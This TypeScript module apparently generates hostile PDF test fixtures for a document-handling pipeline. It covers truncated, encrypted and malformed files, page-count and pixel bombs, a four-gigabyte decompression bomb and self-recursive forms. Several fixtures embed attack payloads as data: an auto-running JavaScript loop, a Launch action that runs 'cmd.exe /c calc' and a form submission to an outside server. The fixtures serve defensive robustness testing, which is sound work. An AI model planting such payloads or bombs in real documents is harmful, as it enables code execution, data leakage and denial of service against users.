import { deflateSync } from 'node:zlib';
import { cut, noise, type HostileFile } from './hostile-file.ts';
import { latinFont, onePage, pdfOf, words, type PdfObject } from './pdf.ts';
import { packedZeros } from './png.ts';

const said = words('The street light is broken');
const good = onePage({ content: said, resources: latinFont });

/** PDFs with passwords, scripts, circles and bombs. */
export function hostilePdfs(): HostileFile[] {
  const of = (name: string, bytes: Buffer, ...expected: HostileFile['expected']): HostileFile => ({ name: `PDF ${name}`, bytes, mediaType: 'application/pdf', expected });
  const endless = (name: string, bytes: Buffer): HostileFile => ({ ...of(name, bytes, 'too-slow', 'too-much-memory'), endless: true });
  return [
    of('that ends in the middle', cut(good, 0.5), 'truncated'),
    of('without its table at the end', good.subarray(0, good.indexOf('xref')), 'truncated'),
    of('of a first line only', Buffer.from('%PDF-1.7\n%\n%\n%\n%\n%\n%\n%\n%\n'), 'truncated'),
    of('of noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(5000), Buffer.from('\nstartxref\n100\n%%EOF\n')]), 'damaged'),
    of('with a password (RC4)', encrypted('/V 1 /R 2 /Length 40', 32), 'encrypted'),
    of('with a password (RC4 of 128 bits)', encrypted('/V 2 /R 3 /Length 128', 32), 'encrypted'),
    of('with a password (AES)', encrypted('/V 4 /R 4 /Length 128 /CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF', 32), 'encrypted'),
    of('with a password (AES of 256 bits)', encrypted(`/V 5 /R 6 /Length 256 /CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF ${key('OE', 32)} ${key('UE', 32)} ${key('Perms', 16)}`, 48), 'encrypted'),
    of('with a script that runs when it is opened', scripted('/OpenAction << /S /JavaScript /JS (while \\(true\\) app.alert\\(1\\);) >>'), 'read'),
    of('that starts a program', scripted('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'read'),
    of('that sends its form to a server', scripted('/OpenAction << /S /SubmitForm /F (https://letters.example/) >>'), 'read'),
    of('with XFA', scripted('/AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >>'), 'read'),
    of('of 5,000 pages', manyPages(5000), 'too-many-pages'),
    of('that says it has two thousand million pages', countOf(2_000_000_000), 'read'),
    of('of no page', pdfOf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'] }), 'no-pages'),
    of('whose pages are their own parent', pdfOf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'] }), 'damaged'),
    of('without a catalogue', pdfOf({ objects: ['<< /Type /Nothing >>'] }), 'damaged'),
    of('whose tables run in a circle', onePage({ content: said, resources: latinFont, trailer: '/Prev @xref' }), 'read'),
    of('of 200 × 200 inches', onePage({ content: said, resources: latinFont, box: [14_400, 14_400] }), 'too-many-pixels'),
    of('of 3 × 3 points', onePage({ content: said, resources: latinFont, box: [3, 3] }), 'no-pages'),
    of('of an empty page', onePage({ content: '' }), 'read'),
    of('with a picture of 40,000 × 40,000 pixels', imagePage('/Width 40000 /Height 40000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode', packedZeros(5000 * 40_000)), 'too-many-pixels'),
    of('whose only picture is noise', imagePage('/Width 800 /Height 1100 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode', noise(4000)), 'damaged'),
    of('whose only picture is noise (JPEG 2000)', imagePage('/Width 800 /Height 1100 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /JPXDecode', noise(4000)), 'damaged'),
    of('with a form that draws itself', onePage({ content: `${said}/F Do`, resources: `${latinFont} /XObject << /F 5 0 R >>`, more: [formOf('/F Do', '/F 5 0 R')] }), 'read'),
    of('with brackets 100,000 deep', onePage({ content: `${'['.repeat(100_000)}${said}`, resources: latinFont }), 'read'),
    of('with a font of noise', onePage({ content: said, resources: '/Font << /F1 5 0 R >>', more: ['<< /Type /Font /Subtype /TrueType /BaseFont /Odd /FontDescriptor 6 0 R >>', '<< /Type /FontDescriptor /FontName /Odd /Flags 4 /FontFile2 7 0 R >>', { dictionary: '', stream: noise(3000) }] }), 'read'),
    endless('whose forms draw each other ten thousand million times', laughs()),
    endless('of forty million operators in 40 KB', onePage({ content: deflateSync(Buffer.from('q 1 0 0 1 0 0 cm 0 0 m 595 842 l S Q\n'.repeat(1_000_000))), filter: '/FlateDecode', catalogue: '' })),
    endless('whose content unpacks to four gigabytes', onePage({ content: packedZeros(4 * 1024 * 1024 * 1024), filter: '/FlateDecode' })),
  ];
}

function encrypted(how: string, length: number): Buffer {
  const dictionary = `<< /Filter /Standard ${how} /P -1028 ${key('O', length)} ${key('U', length)} >>`;
  return onePage({ content: said, resources: latinFont, more: [dictionary], trailer: '/Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]' });
}

/** What no password fits: nobody knows it. */
function key(name: string, length: number): string {
  return `/${name} <${noise(length, name.charCodeAt(0)).toString('hex')}>`;
}

function scripted(catalogue: string): Buffer {
  return onePage({ content: said, resources: latinFont, catalogue });
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
  return pdfOf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, ...Array<string>(count).fill(page)] });
}

function countOf(count: number): Buffer {
  return pdfOf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'] });
}

function imagePage(dictionary: string, stream: Buffer): Buffer {
  return onePage({ content: 'q 595 0 0 842 0 0 cm /I Do Q', resources: '/XObject << /I 5 0 R >>', more: [{ dictionary: `/Type /XObject /Subtype /Image ${dictionary}`, stream }] });
}

function formOf(content: string, forms: string): PdfObject {
  return { dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${latinFont} /XObject << ${forms} >> >>`, stream: Buffer.from(content) };
}

/** Ten levels of forms, each of which draws the next one ten times. */
function laughs(): Buffer {
  const levels = 10;
  const more = Array.from({ length: levels }, (_, n) => (n === levels - 1 ? formOf(said, '') : formOf('/F Do '.repeat(10), `/F ${n + 6} 0 R`)));
  return onePage({ content: '/F Do', resources: '/XObject << /F 5 0 R >>', more });
}
